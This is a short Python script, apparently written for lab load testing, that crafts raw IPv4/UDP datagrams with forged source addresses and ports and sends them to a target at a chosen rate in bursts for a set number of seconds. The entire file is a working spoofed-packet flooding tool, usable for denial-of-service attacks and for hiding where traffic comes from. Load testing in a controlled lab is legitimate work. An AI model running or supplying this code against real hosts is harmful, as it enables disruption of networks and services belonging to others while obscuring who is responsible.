# SPDX-License-Identifier: GPL-3.0-or-later
"""Send datagrams that say to come from somebody else: ``spoof.py TARGET PORT SOURCES SECONDS RATE PAYLOAD...``.

IPv4. SOURCES is a network, of which each datagram gets another address and any port, or ADDRESS:PORT. Payloads are in
hexadecimal and take turns. RATE is per second; they leave in bursts, since only a node whose queue is filled is under
load. It runs on a lab's host, where nothing of ours is installed, and prints how many it has sent.
"""

from __future__ import annotations

import itertools
import random
import socket
import struct
import sys
import time
from collections.abc import Iterator
from ipaddress import ip_network

BURST_SECONDS = 0.1


def sources(text: str) -> Iterator[tuple[int, int]]:
    """Yield addresses and ports without end."""
    address, _colon, port = text.partition(":")
    network = ip_network(address)
    first, size = int(network.network_address), network.num_addresses
    while True:
        yield first + random.randrange(size), int(port) if port else random.randrange(1024, 65536)


def main() -> None:
    target, port, origin, seconds, rate, *texts = sys.argv[1:]
    payloads = itertools.cycle(bytes.fromhex(text) for text in texts)
    there = socket.inet_aton(target)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    spoofed = sources(origin)
    sent, begin = 0, time.monotonic()
    while (now := time.monotonic()) < begin + float(seconds):
        while sent < (now - begin) * float(rate) and time.monotonic() < begin + float(seconds):
            payload, (address, source_port) = next(payloads), next(spoofed)
            udp = struct.pack(">HHHH", source_port, int(port), 8 + len(payload), 0)
            header = struct.pack(">BBHHHBBHI4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, address, there)
            sock.sendto(header + udp + payload, (target, 0))
            sent += 1
        time.sleep(BURST_SECONDS)
    print(sent)


main()
